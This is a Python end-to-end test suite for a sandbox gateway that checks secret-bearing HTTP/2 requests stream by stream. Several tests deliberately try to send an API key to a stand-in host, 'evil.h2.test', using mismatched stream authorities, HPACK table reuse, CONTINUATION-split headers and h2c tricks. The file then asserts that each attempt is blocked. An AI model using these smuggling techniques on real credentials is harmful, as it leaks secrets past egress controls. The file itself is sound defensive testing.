"""`airlock run` with HTTP/2 clients: the same gates on every stream (issue 13).

  sandbox ── its gateway ── host netns HOST_IP ──veth── UP_IP upstream netns
  upstream: nginx with HTTP/2 on :443 (api.h2.test and evil.h2.test), HTTP/1.1 only on :8443;
  certificates from a test CA the gateway trusts; DNS from a dnsmasq on the host's loopback.

The attacks are made by a raw HTTP/2 client (python3-h2) inside the sandbox, which controls every
stream's :authority, the HPACK encoder's indexing and the header block's size: several streams on
one connection, one of them aimed at another authority; a placeholder header the encoder indexes
and then reuses by table reference; a header block split over CONTINUATION frames; echoes of the
value in a response header and in DATA. No assertion prints the fake value.
"""
import json
import os
import textwrap

import pytest

from netlab import Lab, airlock_run, TAG, assert_absent, assert_equal_secret, fake_value, link_addresses, sh

AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")
PY = "/usr/bin/python3"
UPNS = f"alh2g{TAG}"
HOST_IF, UP_IF = f"alh2h{TAG}", f"alh2p{TAG}"
HOST_IP, UP_IP, _, _ = link_addresses()  # this run's own /30 on the host
ALLOWED, EVIL = "api.h2.test", "evil.h2.test"
H1_PORT = 8443
PLAIN_PORT = 8080  # cleartext HTTP/1.1 (h2c tests)

# Sends every request of a plan (JSON: authority, path, headers with {KEY} for the placeholder)
# on one HTTP/2 connection, one after the other without waiting, then prints per request its
# status, the x-echo response header and body, or the RST_STREAM code.
H2_CLIENT = r"""
import json, os, socket, ssl, sys
import h2.config, h2.connection, h2.events
host, plan = sys.argv[1], json.loads(sys.argv[2])
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection((host, 443), timeout=20), server_hostname=host)
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
key = os.environ["API_KEY"]
index, out = {}, {}
for i, req in enumerate(plan):
    sid = conn.get_next_available_stream_id()
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", req["authority"]), (":path", req["path"])]
    headers += [(k, v.replace("{KEY}", key)) for k, v in req.get("headers", [])]
    conn.send_headers(sid, headers, end_stream=True)
    sock.sendall(conn.data_to_send())
    index[sid] = i
    out[i] = {"body": ""}
done = set()
while len(done) < len(plan):
    data = sock.recv(65536)
    if not data:
        break
    for ev in conn.receive_data(data):
        i = index.get(getattr(ev, "stream_id", None))
        if isinstance(ev, h2.events.ResponseReceived):
            h = dict(ev.headers)
            out[i]["status"] = h[":status"]
            out[i]["echo"] = h.get("x-echo", "")
        elif isinstance(ev, h2.events.DataReceived):
            out[i]["body"] += ev.data.decode()
            conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        elif isinstance(ev, h2.events.StreamEnded):
            done.add(i)
        elif isinstance(ev, h2.events.StreamReset):
            out[i]["reset"] = int(ev.error_code)
            done.add(i)
    sock.sendall(conn.data_to_send())
print(json.dumps([out[i] for i in range(len(plan))]))
"""

# An h2-only client (no http/1.1 in its ALPN), as gRPC and Node's http2.connect are.
H2_ONLY = f"""
import socket, ssl, time
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["h2"])
start = time.monotonic()
try:
    ctx.wrap_socket(socket.create_connection(("{ALLOWED}", {H1_PORT}), timeout=20), server_hostname="{ALLOWED}")
    print("connected")
except ssl.SSLError as e:
    print("refused", round(time.monotonic() - start), type(e).__name__, e)
"""


class World:
    def __init__(self, lab):
        self.lab = lab
        self.path = lab.path
        os.chmod(lab.dir, 0o755)
        self.value = fake_value()

    def setup(self):
        lab = self.lab
        lab.upstream_link(UPNS, HOST_IF, UP_IF, HOST_IP, UP_IP)
        lab.ca("ca")
        lab.leaf("server", "ca", f"DNS:{ALLOWED},DNS:{EVIL}")
        d = lab.dir
        self.upstream = lab.nginx(UPNS, {
            "uri": "$request_uri", "host": "$host", "protocol": "$server_protocol",
            "authorization": "$http_authorization", "key": "$http_x_api_key", "upgrade": "$http_upgrade",
        }, f"""\
            large_client_header_buffers 8 64k;
            server {{
              listen {UP_IP}:443 ssl http2;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "ok"; }}
              location /echo/ {{ add_header X-Echo "$http_x_api_key" always; echo "received: $http_x_api_key"; }}
            }}
            server {{
              listen {UP_IP}:{H1_PORT} ssl;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "h1 only"; }}
            }}
            server {{
              listen {UP_IP}:{PLAIN_PORT};
              location / {{ echo "plain"; }}
            }}
            """)
        self.dns_port = lab.dnsmasq([f"--address=/{ALLOWED}/{UP_IP}", f"--address=/{EVIL}/{UP_IP}"])

    def config(self, action):
        return self.lab.write(f"airlock-{action}.toml", textwrap.dedent(f"""\
            [network]
            intercept_ports = [443, {H1_PORT}]
            on_secret_violation = "{action}"
            egress = {json.dumps([f"allow@{UP_IP}:tcp:443", f"allow@{UP_IP}:tcp:{H1_PORT}", f"allow@{UP_IP}:tcp:{PLAIN_PORT}"])}
            [[network.upstream_ca]]
            file = "{self.path('ca.pem')}"

            [[secret]]
            env = "API_KEY"
            value_from = "env:AIRLOCK_E2E_H2_KEY"
            allow_hosts = ["{ALLOWED}"]

            [[secret]]
            env = "PLAIN_KEY"
            value_from = "env:AIRLOCK_E2E_H2_KEY"
            allow_hosts = ["{ALLOWED}"]
            require_tls_identity = false

            [gateway]
            home = "{self.path('home')}"
            audit_log = "{self.path('audit.jsonl')}"
            """))

    def run(self, cmd, action="block-and-log", timeout=120):
        return airlock_run(self.value, "AIRLOCK_E2E_H2_KEY", self.path("home"), self.config(action), self.dns_port,
                           cmd, timeout)

    def h2(self, host, plan, action="block-and-log"):
        proc = self.run([PY, "-c", H2_CLIENT, host, json.dumps(plan)], action)
        assert proc.returncode == 0, proc.stdout + proc.stderr
        return json.loads(proc.stdout.strip().splitlines()[-1]), proc

    def audit(self):
        with open(self.path("audit.jsonl")) as f:
            text = f.read()
        assert_absent(self.value, text, "the audit log")
        return [json.loads(line) for line in text.splitlines()]


@pytest.fixture(scope="module")
def world():
    with Lab("airlock-h2g-") as lab:
        w = World(lab)
        w.setup()
        yield w


def test_curl_http2_carries_the_value_to_the_allowed_host(world):
    proc = world.run(["/bin/sh", "-c", "curl -sS --http2 -w ' %{http_version}' -H \"Authorization: Bearer $API_KEY\" "
                      f"https://{ALLOWED}/curl-h2"])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.split() == ["ok", "2"], proc.stdout
    (rec,) = world.upstream.wait_received("curl-h2")
    assert rec["protocol"] == "HTTP/2.0"
    assert_equal_secret(rec["authorization"], "Bearer " + world.value, "the Authorization nginx received")
    conn = [r for r in world.audit() if r["event"] == "connection" and r.get("protocol") == "h2"]
    assert conn, "the connection record says h2"


def test_one_stream_of_several_with_a_mismatched_authority_is_reset_alone(world):
    results, _ = world.h2(ALLOWED, [
        {"authority": ALLOWED, "path": "/multi-1", "headers": [["x-api-key", "{KEY}"]]},
        {"authority": EVIL, "path": "/multi-2", "headers": [["x-api-key", "{KEY}"]]},
        {"authority": ALLOWED, "path": "/multi-3"},
    ])
    assert results[0].get("status") == "200" and results[2].get("status") == "200", results
    assert results[1].get("reset") == 8, results  # CANCEL
    (rec,) = world.upstream.wait_received("multi-1")
    assert_equal_secret(rec["key"], world.value, "the x-api-key nginx received")
    world.upstream.assert_not_received("multi-2")
    violations = [r for r in world.audit() if r["event"] == "violation" and r.get("stream") == 3]
    assert violations and violations[-1]["secret"] == "API_KEY", violations


def test_a_placeholder_to_a_disallowed_authority_never_leaves(world):
    results, _ = world.h2(EVIL, [{"authority": EVIL, "path": "/evil-1", "headers": [["x-api-key", "{KEY}"]]},
                                 {"authority": EVIL, "path": "/evil-2"}])
    assert results[0].get("reset") == 8 and results[1].get("status") == "200", results
    world.upstream.assert_not_received("evil-1")
    (rec,) = world.upstream.wait_received("evil-2")
    assert rec["key"] == "", "nothing of the placeholder reached evil"


def test_hpack_dynamic_table_reuse_is_gated_per_stream(world):
    # python-h2 indexes x-api-key: the second and third streams send only its table index.
    results, _ = world.h2(ALLOWED, [
        {"authority": ALLOWED, "path": "/hpack-1", "headers": [["x-api-key", "{KEY}"]]},
        {"authority": EVIL, "path": "/hpack-2", "headers": [["x-api-key", "{KEY}"]]},
        {"authority": ALLOWED, "path": "/hpack-3", "headers": [["x-api-key", "{KEY}"]]},
    ])
    assert [r.get("status") or r.get("reset") for r in results] == ["200", 8, "200"], results
    for marker in ("hpack-1", "hpack-3"):
        (rec,) = world.upstream.wait_received(marker)
        assert_equal_secret(rec["key"], world.value, f"the x-api-key nginx received on {marker}")
    world.upstream.assert_not_received("hpack-2")


def test_a_header_block_split_over_continuation_is_gated_whole(world):
    pad = [[f"x-pad-{i}", chr(97 + i) * 3000] for i in range(10)]  # 30 KB: HEADERS + CONTINUATION
    results, _ = world.h2(ALLOWED, [
        {"authority": ALLOWED, "path": "/cont-1", "headers": pad + [["x-api-key", "{KEY}"]]},
        {"authority": EVIL, "path": "/cont-2", "headers": pad + [["x-api-key", "{KEY}"]]},
    ])
    assert results[0].get("status") == "200" and results[1].get("reset") == 8, results
    (rec,) = world.upstream.wait_received("cont-1")
    assert_equal_secret(rec["key"], world.value, "the x-api-key nginx received after CONTINUATION")
    world.upstream.assert_not_received("cont-2")


def test_echoes_in_a_response_header_and_in_data_are_masked(world):
    results, proc = world.h2(ALLOWED, [{"authority": ALLOWED, "path": "/echo/h2", "headers": [["x-api-key", "{KEY}"]]}])
    # run_clean already checked the value is nowhere in the client's output.
    assert results[0]["status"] == "200", results
    assert results[0]["echo"] == "*" * len(world.value), "the x-echo header came back masked"
    assert results[0]["body"].strip() == "received: " + "*" * len(world.value)
    assert any(r["event"] == "scrubbed" for r in world.audit())


def test_an_h2_only_client_against_an_http1_upstream_fails_clearly(world):
    proc = world.run([PY, "-c", H2_ONLY])
    assert proc.returncode == 0, proc.stdout + proc.stderr
    words = proc.stdout.split()
    assert words[0] == "refused", proc.stdout
    assert "alert no application protocol" in proc.stdout, "a no_application_protocol alert: " + proc.stdout
    # Not after the gateway's 10 s handshake timeout (the bound was 5 s: a loaded machine's stall).
    assert int(words[1]) < 9, "refused at once, not after a timeout"
    mismatch = [r for r in world.audit() if r["event"] == "connection" and r["decision"] == "alpn_mismatch"]
    assert mismatch and "only h2" in mismatch[-1]["detail"], mismatch


def test_block_and_terminate_on_one_stream_ends_the_sandbox(world):
    proc = world.run([PY, "-c", H2_CLIENT, ALLOWED, json.dumps([
        {"authority": EVIL, "path": "/term-1", "headers": [["x-api-key", "{KEY}"]]}])] , action="block-and-terminate")
    assert proc.returncode != 0
    world.upstream.assert_not_received("term-1")
    assert "block-and-terminate" in proc.stderr


def test_h2c_prior_knowledge_is_refused_on_cleartext(world):
    # curl speaks HTTP/2 at once (the PRI preface): the gateway's HTTP/1 codec refuses it; no
    # byte reaches the upstream, the refusal is audited.
    proc = world.run(["/bin/sh", "-c", "curl -sS --http2-prior-knowledge -H \"X-Api-Key: $PLAIN_KEY\" "
                      f"http://{ALLOWED}:{PLAIN_PORT}/pk-1"])
    assert proc.returncode != 0, proc.stdout
    world.upstream.assert_not_received("pk-1")
    blocked = [r for r in world.audit() if r["event"] == "blocked" and r.get("reason") == "malformed request: unsupported_version"]
    assert blocked, "the refusal is audited"


def test_h2c_upgrade_is_stripped_where_a_value_flows(world):
    # curl --http2 on http:// offers Upgrade: h2c; the request carries a value, so the offer is
    # removed and the exchange stays HTTP/1.1, which the gates and the scrubber read.
    proc = world.run(["/bin/sh", "-c", "curl -sS --http2 -H \"X-Api-Key: $PLAIN_KEY\" "
                      f"http://{ALLOWED}:{PLAIN_PORT}/up-1"])
    assert proc.returncode == 0 and proc.stdout.strip() == "plain", proc.stdout + proc.stderr
    (rec,) = world.upstream.wait_received("up-1")
    assert rec["upgrade"] == "" and rec["protocol"] == "HTTP/1.1", rec["upgrade"]
    assert_equal_secret(rec["key"], world.value, "the x-api-key nginx received over cleartext")
